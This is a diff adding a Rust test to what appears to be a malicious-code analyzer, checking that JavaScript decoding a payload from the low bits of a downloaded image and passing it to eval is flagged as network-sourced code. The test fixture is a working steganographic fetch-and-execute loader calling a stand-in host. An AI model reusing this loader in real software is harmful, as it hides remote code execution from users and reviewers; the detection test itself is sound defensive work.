@@ -2248,3 +2248,33 @@ fn a_chmod_command_makes_executable_it_does_not_run() {
     ));
     assert_eq!(f.droppers.len(), 1, "{:#?}", f.droppers);
 }
+
+#[test]
+fn code_hidden_in_downloaded_image_bits_is_code_from_the_network() {
+    let loader = |source: &str| {
+        format!(
+            "{source}
+            function run(buf) {{ let bits = ''; for (let i = 54; i < buf.length; i++) bits += buf[i] & 1;
+              let s = ''; for (let i = 0; i < bits.length; i += 8) s += String.fromCharCode(parseInt(bits.substr(i, 8), 2));
+              eval(s); }}"
+        )
+    };
+    let f = run(&loader(
+        "require('https').get('https://s.example.net/cat.png', (res) => { const chunks = [];
+           res.on('data', (c) => chunks.push(c)); res.on('end', () => run(Buffer.concat(chunks))); });",
+    ));
+    assert!(
+        f.dynamic_code.iter().any(|d| d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
+    // The same bits of a bundled image are not from the network.
+    let f = run(&loader(
+        "run(require('fs').readFileSync(__dirname + '/cat.png'));",
+    ));
+    assert!(
+        !f.dynamic_code.iter().any(|d| d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
+}
